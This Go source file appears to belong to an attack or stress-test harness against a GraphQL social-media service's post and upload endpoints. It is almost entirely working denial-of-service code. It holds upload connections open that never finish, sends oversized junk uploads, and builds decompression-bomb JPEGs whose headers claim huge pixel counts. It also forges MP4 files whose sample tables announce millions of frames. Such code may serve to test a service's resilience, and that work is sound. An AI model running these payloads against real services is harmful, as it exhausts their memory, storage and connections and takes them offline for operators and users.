package main

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"image"
	"image/jpeg"
	"math/rand/v2"
	"net/url"
)

// newPost adds a post of the attacker and returns the URL to which its file is uploaded.
func (t *target) newPost(kind, field, more string) (string, error) {
	_, body, err := t.ask(
		t.attacker(),
		`mutation($id:ID!){addPost(postId:$id,postType:`+kind+more+`){`+field+`}}`,
		map[string]any{"id": fmt.Sprintf("%08x-0000-4000-8000-%012x", rand.Uint32(), rand.Uint32())},
	)
	var answer struct {
		Data struct{ AddPost map[string]string }
	}
	if err != nil || json.Unmarshal(body, &answer) != nil || answer.Data.AddPost[field] == "" {
		return "", fmt.Errorf("post: %.300s %w", body, err)
	}
	return answer.Data.AddPost[field], nil
}

// slowUploads hold uploads that never end.
func slowUploads(ctx context.Context, t *target) string {
	address, err := t.newPost("IMAGE", "imageUploadUrl", "")
	if err != nil {
		return "FAILED: " + err.Error()
	}
	u, err := url.Parse(address)
	if err != nil {
		return "FAILED: " + err.Error()
	}
	return hold(ctx, t, 1000, "PUT "+u.RequestURI()+" HTTP/1.1\r\nHost: localhost\r\nContent-Type: image/jpeg\r\nContent-Length: 60000000\r\n\r\n")
}

// largeUploads upload as much as there may be, of no picture.
func largeUploads(ctx context.Context, t *target) string {
	content := bytes.Repeat([]byte("no picture at all "), 3<<20)
	var o outcomes
	several(ctx, 8, func(int) {
		address, err := t.newPost("IMAGE", "imageUploadUrl", "")
		if err == nil {
			err = put(address, "image/jpeg", bytes.NewReader(content))
		}
		o.note(result(err))
	})
	return o.String()
}

func result(err error) string {
	if err != nil {
		return "refused"
	}
	return "taken"
}

// frame is the header of a JPEG file with so many pixels.
func frame(width, height int) []byte {
	sof := []byte{0xff, 0xc0, 0, 17, 8, 0, 0, 0, 0, 3, 1, 0x11, 0, 2, 0x11, 0, 3, 0x11, 0}
	binary.BigEndian.PutUint16(sof[5:], uint16(height))
	binary.BigEndian.PutUint16(sof[7:], uint16(width))
	return append([]byte{0xff, 0xd8}, sof...)
}

func hugeJPEG() []byte { return frame(65_000, 65_000) }

// pictures are small files of many pixels.
func pictures() [][]byte {
	var small bytes.Buffer
	_ = jpeg.Encode(&small, image.NewYCbCr(image.Rect(0, 0, 16, 16), image.YCbCrSubsampleRatio444), nil) // a buffer takes everything
	// As many pixels of full chroma as a picture may have, of which hardly any are there.
	claims := bytes.Clone(small.Bytes())
	at := bytes.Index(claims, []byte{0xff, 0xc0})
	binary.BigEndian.PutUint16(claims[at+5:], 9_000)
	binary.BigEndian.PutUint16(claims[at+7:], 9_000)
	return [][]byte{hugeJPEG(), append(hugeJPEG(), small.Bytes()[2:]...), claims, append(claims, make([]byte, 1<<20)...)}
}

// hugePictures adds posts of such pictures, in requests and as uploads.
func hugePictures(ctx context.Context, t *target) string {
	all := pictures()
	var o outcomes
	several(ctx, 4, func(i int) {
		data := all[rand.IntN(len(all))]
		if i < 2 {
			address, err := t.newPost("IMAGE", "imageUploadUrl", "")
			if err == nil {
				err = put(address, "image/jpeg", bytes.NewReader(data))
			}
			o.note("upload " + result(err))
			return
		}
		_, err := t.newPost("IMAGE", "postStatus", `,imageInput:{imageData:"`+base64.StdEncoding.EncodeToString(data)+`"}`)
		o.note("in a request " + result(err))
	})
	return o.String()
}

// absurdFilms uploads videos whose headers announce more than there is: tracks of many frames.
func absurdFilms(ctx context.Context, t *target) string {
	film := box("ftyp", []byte("isom\x00\x00\x02\x00isommp41"))
	samples := box(
		"stbl",
		list("stsd", entry(), 1),
		list("stts", nil, 1, 10<<20, 1),
		list("stsc", nil, 1, 1, 10<<20, 1),
		list("stsz", nil, 100, 10<<20),
		list("stco", nil, 1, 2000),
	)
	track := box(
		"trak",
		list("tkhd", make([]byte, 60), 0, 0, 1, 0, 10),
		box(
			"mdia",
			list("mdhd", nil, 0, 0, 1, 10, 0),
			list("hdlr", []byte("vide\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"), 0),
			box("minf", samples),
		),
	)
	film = append(film, box("moov", bytes.Repeat(track, 30))...)
	film = append(film, box("mdat", make([]byte, 20_000))...)
	var o outcomes
	several(ctx, 2, func(int) {
		address, err := t.newPost("VIDEO", "videoUploadUrl", "")
		if err == nil {
			err = put(address, "video/quicktime", bytes.NewReader(film))
		}
		o.note(result(err))
	})
	return o.String()
}

// box returns a box of a film, and list one that starts with version, flags and numbers.
func box(kind string, contents ...[]byte) []byte {
	content := bytes.Join(contents, nil)
	return append(append(binary.BigEndian.AppendUint32(nil, uint32(8+len(content))), kind...), content...)
}

func list(kind string, behind []byte, all ...uint32) []byte {
	data := make([]byte, 4)
	for _, n := range all {
		data = binary.BigEndian.AppendUint32(data, n)
	}
	return box(kind, data, behind)
}

// entry describes frames of 640 x 360 pixels.
func entry() []byte {
	data := make([]byte, 78)
	copy(data[6:], []byte{0, 1})
	copy(data[24:], []byte{640 >> 8, 640 & 0xff, 360 >> 8, 360 & 0xff})
	return box("jpeg", data)
}
